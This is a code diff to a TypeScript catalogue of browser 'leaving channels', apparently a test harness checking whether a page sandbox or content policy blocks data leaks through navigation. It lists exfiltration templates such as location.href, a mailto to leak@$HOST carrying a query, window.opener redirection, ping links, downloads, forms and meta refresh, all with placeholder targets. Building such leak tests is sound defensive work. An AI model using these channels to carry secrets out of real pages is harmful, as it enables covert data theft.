@@ -6,38 +6,32 @@ import { onStage, settle } from './stage.ts';
 export const leavingChannels: readonly Channel[] = [
   {
     id: 'leave-location',
-    words: 'go to another page',
     code: "location.href = '$URL'",
     run: ({ url }) => leave(() => (location.href = url)),
   },
   {
     id: 'leave-upgraded',
-    words: 'go there over an encrypted line',
     code: "location.href = '$HTTPS'",
     run: ({ secureUrl }) => leave(() => (location.href = secureUrl)),
   },
   {
     id: 'leave-message',
-    words: 'go there at the word of a thread',
     code: "thread.onmessage = () => (location.href = '$URL')",
     run: ({ url }) => leaveAtWord(url),
   },
   {
     id: 'leave-mail',
-    words: 'write a letter in the person’s mail program',
     code: "location.href = 'mailto:leak@$HOST$QUERY'",
     reportedAs: ['mailto:'],
     run: ({ host, query }) => leave(() => (location.href = `mailto:leak@${host}${query}`)),
   },
   {
     id: 'leave-replace',
-    words: 'go there without a trace',
     code: "location.replace('$URL')",
     run: ({ url }) => leave(() => location.replace(url)),
   },
   {
     id: 'leave-navigate',
-    words: 'go there the new way',
     code: "navigation.navigate('$URL')",
     run: ({ url }) => {
       if (!globalThis.navigation) return { kind: 'missing' };
@@ -50,31 +44,27 @@ export const leavingChannels: readonly Channel[] = [
   },
   {
     id: 'leave-own',
-    words: 'go to this app’s own server with the secret in the address',
     code: "location.href = '$URL'",
     isOwnSite: true,
     run: ({ url }) => leave(() => (location.href = url)),
   },
   {
     id: 'leave-own-page',
-    words: 'open this page anew with the secret in its address',
     code: "location.href = '/index.html$QUERY'",
     isOwnSite: true,
     run: ({ query }) => leave(() => (location.href = `/index.html${query}`)),
   },
   {
     id: 'leave-opener',
-    words: 'have an empty window send this page away',
     code: "window.open('').opener.location = '$URL'",
     run: async ({ url }) => {
       const opened = open('');
-      if (!opened) return { kind: 'refused', word: 'no window opened' };
+      if (!opened) return { kind: 'refused', sign: 'no-window' };
       return await leave(() => ((opened.opener as Window).location.href = url)).finally(() => opened.close());
     },
   },
   {
     id: 'leave-frame-top',
-    words: 'click a link in an empty frame that leads this page away',
     code: 'frame.contentDocument.body.innerHTML = \'<a target="_top" href="$URL">\'',
     silentWall: 'policy',
     run: ({ url }) =>
@@ -89,63 +79,54 @@ export const leavingChannels: readonly Channel[] = [
         return await settle();
       }),
   },
-  { id: 'leave-link', words: 'click a link', code: '<a href="$URL">', run: ({ url }) => click(url, {}) },
+  { id: 'leave-link', code: '<a href="$URL">', run: ({ url }) => click(url, {}) },
   {
     id: 'leave-link-window',
-    words: 'click a link into a new window',
     code: '<a href="$URL" target="_blank">',
     run: ({ url }) => click(url, { target: '_blank' }),
   },
   {
     id: 'leave-link-ping',
-    words: 'click a link that tells a stranger of the click',
     code: '<a href="$URL" ping="$URL">',
     run: ({ url }) => click(url, { ping: url }),
   },
   {
     id: 'leave-own-ping',
-    words: 'click a link that tells this app’s own server of the click',
     code: '<a href="$URL" ping="$URL">',
     isOwnSite: true,
     run: ({ url }) => click(url, { ping: url }),
   },
   {
     id: 'leave-download',
-    words: 'save a stranger’s file',
     code: '<a href="$URL" download>',
     run: ({ url }) => click(url, { download: 'leak' }),
   },
   {
     id: 'leave-own-download',
-    words: 'save a file of this app’s own server',
     code: '<a href="$URL" download>',
     isOwnSite: true,
     run: ({ url }) => click(url, { download: 'leak' }),
   },
   {
     id: 'leave-form',
-    words: 'send a form',
     code: '<form action="$URL">',
     silentWall: 'policy',
     run: ({ url }) => submit(url, { method: 'get' }),
   },
   {
     id: 'leave-form-post',
-    words: 'post a form',
     code: '<form method="post" action="$URL">',
     silentWall: 'policy',
     run: ({ url }) => submit(url, { method: 'post' }),
   },
   {
     id: 'leave-form-window',
-    words: 'send a form into a new window',
     code: '<form action="$URL" target="_blank">',
     silentWall: 'policy',
     run: ({ url }) => submit(url, { method: 'get', target: '_blank' }),
   },
   {
     id: 'leave-refresh',
-    words: 'have the page replace itself',
     code: '<meta http-equiv="refresh" content="0; url=$URL">',
     run: async ({ url }) => {
       const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${url}` });
